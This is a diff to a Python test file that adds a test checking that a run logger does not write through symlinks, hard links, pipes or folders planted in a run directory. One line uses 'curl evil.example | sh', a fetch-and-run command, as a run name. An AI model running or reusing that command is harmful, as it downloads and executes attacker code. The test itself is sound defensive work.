@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import sys
 import time
 from collections.abc import Sequence
 from pathlib import Path
@@ -173,6 +174,30 @@ def test_what_cannot_be_written_disturbs_no_run(tmp_path: Path, clock: Clock) ->
     live.at_work(0.0, list)
     live.end("finished", "", {})
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX files")
+@pytest.mark.parametrize("way", ["link", "hard link", "pipe", "folder"])
+def test_a_log_is_written_nowhere_else(tmp_path: Path, clock: Clock, way: str) -> None:
+    """In a run's folder that comes from elsewhere, and is gone on with, its name may stand for a file of yours."""
+    folder, yours = tmp_path / "run", tmp_path / "yours"
+    folder.mkdir()
+    yours.write_text("mine\n")
+    if way == "link":
+        (folder / LOG).symlink_to(yours)
+    elif way == "hard link":
+        os.link(yours, folder / LOG)
+    elif way == "pipe":
+        os.mkfifo(folder / LOG)
+    else:
+        (folder / LOG).mkdir()
+    (folder / NOW).symlink_to(yours)
+    live = Live(lambda: folder, clock)
+    live.begin(plan(name="curl evil.example | sh"))
+    clock.now += 10
+    live.at_work(0.0, list)
+    live.end("finished", "", {})
+    assert yours.read_text() == "mine\n"
 
 
 def test_a_run_has_a_log_and_says_who_is_at_work(tmp_path: Path) -> None:
